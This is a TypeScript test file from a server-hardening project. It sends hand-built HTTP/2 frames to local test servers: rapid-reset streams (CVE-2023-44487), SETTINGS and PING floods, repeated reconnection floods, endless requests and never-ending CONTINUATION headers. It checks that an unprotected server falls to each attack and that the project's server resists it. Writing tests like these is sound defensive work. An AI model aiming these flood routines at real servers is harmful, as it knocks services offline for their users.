/**
 * Attacks with the frames of HTTP/2 (A87). No option takes these limits away, so each is first sent to a server of `http2` without our
 * settings: if that does not come out as vulnerable, the measure sees nothing and the attack file fails.
 */
import { once } from 'node:events'
import type { Server } from 'node:http'
import http2 from 'node:http2'
import type { AddressInfo } from 'node:net'
import tls from 'node:tls'
import { createServer, drain } from '../../src/adapters/server.ts'
import { localCertificate } from '../../src/tls/local.ts'
import { tlsOptions } from '../../src/tls/server.ts'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { nodeApp } from '../support/apps/node.ts'
import type { TestApp } from '../support/app.ts'
import { defineAttack, type Attack, type HeldBy } from '../support/attack.ts'
import {
  CONTINUATION,
  END_HEADERS,
  END_STREAM,
  field,
  frame,
  HEADERS,
  PING,
  rawClient,
  requestHead,
  RST_STREAM,
  SETTINGS,
  uint32,
} from '../support/http2-frames.ts'

const OURS: HeldBy = { heldBy: 'design', why: 'the limits are set on every server we make; a server without them is tried first' }
const BY_NODE: HeldBy = {
  heldBy: 'node',
  why: 'nghttp2 ends such a connection by itself; a reader of frames without a limit is tried first',
}

interface Target {
  readonly port: number
  readonly authority: string
  /** Requests that reached a handler. */
  served(): number
}

/** True when the attacker got what they wanted of this server. */
type Measure = (target: Target) => Promise<boolean>

const wholeHead = END_HEADERS | END_STREAM

/** Opens streams and takes them back at once (CVE-2023-44487): the work is begun, and the limit of open streams never reached. */
const rapidReset: Measure = async ({ port, authority, served }) => {
  const client = await rawClient(port)
  for (let at = 0; at < 3000; at++) {
    const stream = 2 * at + 1
    const request = frame(HEADERS, wholeHead, stream, requestHead(authority, '/public-json'))
    if (!(await client.send(request, frame(RST_STREAM, 0, stream, uint32(8))))) break
  }
  await client.wasClosed(2000)
  client.socket.destroy()
  return served() > 300
}

const flood =
  (type: number, payload: Buffer): Measure =>
  async ({ port }) => {
    const client = await rawClient(port)
    for (let at = 0; at < 100; at++) {
      if (!(await client.send(...Array<Buffer>(30).fill(frame(type, 0, 0, payload))))) break
      // Not faster than answers leave: nghttp2 holds a thousand that wait, and closes then.
      for (let waited = 0; waited < 100 && !client.closed && (client.received.get(type) ?? 0) < at * 30; waited++)
        await client.wasClosed(5)
    }
    const answered = () => (client.received.get(type) ?? 0) >= 3000
    for (let waited = 0; waited < 100 && !client.closed && !answered(); waited++) await client.wasClosed(20)
    const open = !client.closed && answered()
    client.socket.destroy()
    return open
  }

/** Is closed for it, and comes again: 40 connections, each with a flood of its own. */
const again: Measure = async ({ port }) => {
  let welcome = 0
  for (let connection = 0; connection < 40; connection++) {
    const client = await rawClient(port)
    await client.send(frame(HEADERS, wholeHead, 1, requestHead(`localhost:${port}`, '/public-json')))
    for (let waited = 0; waited < 100 && !client.closed && !client.received.has(HEADERS); waited++) await client.wasClosed(20)
    if (client.received.has(HEADERS)) welcome++
    await client.send(...Array<Buffer>(200).fill(frame(PING, 0, 0, Buffer.alloc(8))))
    await client.wasClosed(50)
    client.socket.destroy()
  }
  return welcome > 30
}

/** Asks 1500 times on one connection, as fast as answers come. */
const endless: Measure = async ({ port, authority, served }) => {
  const client = await rawClient(port)
  const before = served()
  for (let at = 0; at < 1500 && !client.closed; at++) {
    await client.send(frame(HEADERS, wholeHead, 2 * at + 1, requestHead(authority, '/public-json')))
    for (let waited = 0; waited < 500 && !client.closed && (client.received.get(HEADERS) ?? 0) <= at; waited++) {
      await new Promise((resolve) => setImmediate(resolve))
      if (client.goaway.length > 0) break
    }
    if (client.goaway.length > 0) break
  }
  client.socket.destroy()
  return served() - before >= 1500
}

/** A head that never ends (CVE-2024-27316, CVE-2024-27983). */
const continuation: Measure = async ({ port, authority }) => {
  const client = await rawClient(port)
  await client.send(frame(HEADERS, END_STREAM, 1, requestHead(authority, '/public-json')))
  for (let at = 0; at < 300; at++)
    if (!(await client.send(...Array<Buffer>(10).fill(frame(CONTINUATION, 0, 1, field('x-more', 'of it')))))) break
  const open = !(await client.wasClosed(500))
  client.socket.destroy()
  return open
}

const ATTACKS: readonly (readonly [Attack['id'], string, Measure])[] = [
  ['A87a', 'opens streams and takes them back, again and again (rapid reset)', rapidReset],
  ['A87b', 'changes its settings without end, and has each change answered', flood(SETTINGS, Buffer.alloc(0))],
  ['A87c', 'pings without end, and has each ping answered', flood(PING, Buffer.alloc(8))],
  ['A87d', 'is closed for a flood, and comes again at once with the next', again],
  ['A87e', 'asks without end on one connection of HTTP/2', endless],
]

const folder = mkdtempSync(join(tmpdir(), 'holdfast-a87-'))
const certificate = localCertificate(folder).finally(() => rmSync(folder, { recursive: true, force: true }))

async function listening(server: { listen(port: number, host: string): unknown; address(): unknown }): Promise<number> {
  server.listen(0, '127.0.0.1')
  await once(server as Server, 'listening')
  return (server.address() as AddressInfo).port
}

/** What the measure says of a server with nothing set. */
async function bare(measure: Measure): Promise<boolean> {
  let served = 0
  const server = http2.createSecureServer(tlsOptions(await certificate, ['h2']), (_request, response) => {
    served++
    response.end()
  })
  server.on('sessionError', () => {})
  const port = await listening(server)
  try {
    return await measure({ port, authority: `localhost:${port}`, served: () => served })
  } finally {
    server.close()
  }
}

/** What it says of a reader of frames that knows no limit; of Node's there is none without. */
async function unlimited(measure: Measure): Promise<boolean> {
  const server = tls.createServer(tlsOptions(await certificate, ['h2']), (socket) => socket.on('error', () => {}).resume())
  const port = await listening(server)
  try {
    return await measure({ port, authority: `localhost:${port}`, served: () => 0 })
  } finally {
    server.close()
  }
}

async function ours(app: TestApp, measure: Measure): Promise<boolean> {
  const server = createServer(app.holdfast, nodeApp(app.holdfast, app.state), { tls: { ...(await certificate), http2: true } })
  const port = await listening(server)
  try {
    const served = () => app.state.hits['GET /public-json'] ?? 0
    return await measure({ port, authority: new URL(app.origin).host, served })
  } finally {
    await drain(server, 0)
  }
}

export default [
  ...ATTACKS.map(([id, title, measure]) =>
    defineAttack({
      id,
      title,
      control: 'body',
      tls: true,
      options: { rateLimit: false },
      without: OURS,
      async succeeds(app) {
        if (!(await bare(measure))) throw new Error('a server without our settings is not vulnerable to this')
        const held = !(await ours(app, measure))
        if (held && !app.events.some(({ type }) => type === 'malicious_http2') && id !== 'A87e')
          throw new Error('It was held, and nothing about it stands in the log.')
        return !held
      },
    }),
  ),
  defineAttack({
    id: 'A87f',
    title: 'sends a head that never ends, in CONTINUATION frames',
    control: 'body',
    tls: true,
    without: BY_NODE,
    async succeeds(app) {
      if (!(await unlimited(continuation))) throw new Error('a reader without a limit is not vulnerable to this')
      return await ours(app, continuation)
    },
  }),
]
